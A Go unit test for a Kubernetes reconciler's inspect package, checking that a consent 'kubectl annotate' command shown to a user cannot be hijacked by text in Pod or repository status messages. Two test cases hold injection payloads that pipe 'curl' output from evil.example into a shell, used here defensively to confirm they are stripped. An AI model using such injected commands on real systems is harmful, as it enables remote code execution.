package inspect_test

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"

	v1 "github.com/towline-dev/towline/reconciler/api/v1"
	"github.com/towline-dev/towline/reconciler/inspect"
)

// TestConsentIsNoCommandOfOthers holds that what stands in a message, where a Pod or a repository may speak, doesn't come
// into the command that a person is shown to run.
func TestConsentIsNoCommandOfOthers(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusForbidden) }))
	t.Cleanup(server.Close)
	client, err := inspect.New(inspect.Config{REST: &rest.Config{Host: server.URL}})
	if err != nil {
		t.Fatal(err)
	}
	const command = "kubectl annotate --overwrite -n shop syncs.towline.dev/web towline.dev/prune-consent="
	for _, test := range []struct{ name, message, want string }{
		{"as the reconciler says it", "deleting 3 objects waits: a, b. To allow it: " + command + "delete-0123456789", command + "delete-0123456789"},
		{"at a sentence's end", "(" + command + "delete-0123456789).", command + "delete-0123456789"},
		{"another command", "Pod web: towline.dev/prune-consent=;curl${IFS}evil.example|sh", ""},
		{"another command behind a key", "Pod web: towline.dev/prune-consent=x$(curl${IFS}evil.example)", command + "x"},
		{"nothing", "towline.dev/prune-consent=", ""},
		{"no word of it", "applied", ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			sync := &v1.Sync{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "web"}}
			sync.Status.Conditions = []metav1.Condition{{Type: v1.ConditionReady, Status: metav1.ConditionFalse, Message: test.message}}
			detail, err := client.Describe(t.Context(), sync)
			if err != nil {
				t.Fatal(err)
			}
			got := ""
			if detail.Consent != nil {
				got = detail.Consent.Command
			}
			if got != test.want {
				t.Errorf("the command is %q, want %q", got, test.want)
			}
			if notes := strings.Join(detail.Notes, "\n"); !strings.Contains(notes, "events: you may not read this kind") {
				t.Errorf("what can't be read isn't noted:\n%s", notes)
			}
		})
	}
}
